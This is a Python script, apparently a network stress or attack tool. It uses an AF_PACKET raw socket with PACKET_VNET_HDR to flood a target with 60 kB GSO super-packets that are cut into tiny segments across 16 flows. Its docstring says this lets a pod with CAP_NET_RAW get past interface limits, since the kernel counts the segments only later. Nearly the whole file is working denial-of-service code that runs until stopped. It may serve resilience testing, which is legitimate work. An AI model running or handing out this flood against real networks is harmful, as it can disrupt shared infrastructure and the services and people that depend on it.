"""Floods with super-packets whose segments are as small as it likes, as a pod with CAP_NET_RAW can (packet(7),
PACKET_VNET_HDR).

    super_packets.py GATEWAY_MAC SOURCE DESTINATION tcp|udp SIZE

Each has 60 kB and is to be cut into segments of SIZE bytes of payload; they belong to 16 flows. Until SIGTERM; prints
how many the kernel took. No limit of the interface holds them up: the kernel counts their segments only behind it
(SKB_GSO_DODGY).
"""

import contextlib
import socket
import struct
import sys

from ending import Ending
from packets import ETHERTYPES, TCP, UDP, binary, ip_packet, mac, ones_sum, pseudo_header

SOL_PACKET, PACKET_VNET_HDR = 263, 15
# struct virtio_net_hdr: flags, type, bytes of headers, segment size, where the checksum begins, and its place there.
VNET = struct.Struct("=BBHHHH")
NEEDS_CSUM, TYPES = 1, {("tcp", 4): 1, ("tcp", 6): 4, ("udp", 4): 5, ("udp", 6): 5}
# What the kernel lets a UDP super-packet be cut into (UDP_MAX_SEGMENTS).
ETHERNET, BYTES, FLOWS, PORT, UDP_SEGMENTS = 14, 60_000, 16, 7009, 128


def super_packet(gateway, source, destination, kind, size, flow):
    (source, destination), version = binary(source, destination), 6 if ":" in source else 4
    segments = BYTES // size if kind == "tcp" else min(BYTES // size, UDP_SEGMENTS)
    protocol, place, header = (TCP, 16, 20) if kind == "tcp" else (UDP, 6, 8)
    length = header + segments * size
    unfinished = ones_sum(pseudo_header(source, destination, protocol, length))
    head = struct.pack("!HHHH", 40_000 + flow, PORT, length, unfinished)
    if kind == "tcp":
        head = head[:4] + struct.pack("!IIBBHHH", 1, 1, 0x50, 0x10, 1000, unfinished, 0)
    packet = ip_packet(source, destination, protocol, head + bytes(length - header))
    transport = ETHERNET + len(packet) - length
    vnet = VNET.pack(NEEDS_CSUM, TYPES[kind, version], transport + header, size, transport, place)
    return vnet + mac(gateway) + bytes(5) + b"\2" + struct.pack("!H", ETHERTYPES[version]) + packet


def main(gateway, source, destination, kind, size):
    packets = [super_packet(gateway, source, destination, kind, int(size), flow) for flow in range(FLOWS)]
    line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    line.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)
    line.bind(("eth0", 0))
    sent, ending = 0, Ending()
    while not ending.told:
        with contextlib.suppress(BlockingIOError, InterruptedError):
            sent += line.send(packets[sent % FLOWS]) > 0
    print(sent)


main(*sys.argv[1:])
